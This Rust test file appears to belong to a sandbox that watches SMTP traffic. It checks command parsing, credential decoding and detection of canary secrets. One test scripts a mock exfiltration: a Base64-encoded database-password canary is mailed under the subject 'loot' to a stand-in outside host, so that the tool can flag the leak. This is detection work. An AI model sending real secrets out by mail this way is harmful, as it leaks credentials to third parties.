use super::parse::{plain, verb};
use crate::testing::{Bed, Loopback, present, run, world};

fn check(line: &[u8], expect: (&str, &str)) {
    let (verb, rest) = verb(line);
    assert_eq!((verb.as_str(), rest.as_str()), expect);
}

#[test]
fn lines_are_taken_apart() {
    check(b"mail FROM:<a@b>", ("MAIL", "FROM:<a@b>"));
    check(b"QUIT", ("QUIT", ""));
    check(b"\xff\xfe", ("\u{fffd}\u{fffd}", ""));
    assert_eq!(plain(b"AHVzZXIAcGFzcw=="), b"user pass");
    assert_eq!(plain(b"%"), b"");
}

#[test]
fn logins_and_mails_are_told() {
    let bed = Bed::new();
    let secret = bed.shared.world.canaries.get("env-database-password").to_owned();
    let mail = format!("Subject: loot\r\n\r\n{}\r\n.\r\n", data_encoding::BASE64.encode(secret.as_bytes()));
    bed.says(
        "198.51.100.25:25",
        &[
            (b"", "220 mail"),
            (b"EHLO web\r\n", "250 HELP"),
            (b"AUTH LOGIN\r\n", "334"),
            (b"dXNlcg==\r\n", "334"),
            (b"cGFzcw==\r\n", "235"),
            (b"MAIL FROM:<a@x.example>\r\n", "250"),
            (b"RCPT TO:<b@y.example>\r\n", "250"),
            (b"DATA\r\n", "354"),
            (mail.as_bytes(), "queued"),
            (b"QUIT\r\n", "221"),
        ],
    );
    bed.check("smtp: AUTH user pass");
    bed.check("smtp: RCPT TO:<b@y.example>");
    bed.check("canary env-database-password Base64");
}

#[test]
fn python_sends_mail_through_starttls() {
    if !present("python3") {
        return;
    }
    let loopback = Loopback::new(world());
    // Its port says nothing here: the client is told who it speaks to by hand.
    let script = format!(
        "import smtplib,ssl,socket\nclass S(smtplib.SMTP):\n    def getreply(self):\n        if not getattr(self,'begun',0):\n            self.begun=1; self.sock.sendall(b'EHLO first\\r\\n')\n            r=smtplib.SMTP.getreply(self); self.begun=2; smtplib.SMTP.getreply(self); return r\n        return smtplib.SMTP.getreply(self)\nc=ssl._create_unverified_context()\ns=S('127.0.0.1',{},timeout=10);s.starttls(context=c);s.login('u','p');s.sendmail('a@x.example',['b@y.example'],'Subject: x\\n\\nhello')\ns.quit();print('fine')",
        loopback.tcp.port()
    );
    let (worked, text) = run("python3", &["-c", &script]);
    assert!(worked && text.contains("fine"), "{text} {:#?}", loopback.told());
    loopback.check("smtp: AUTH u p");
}
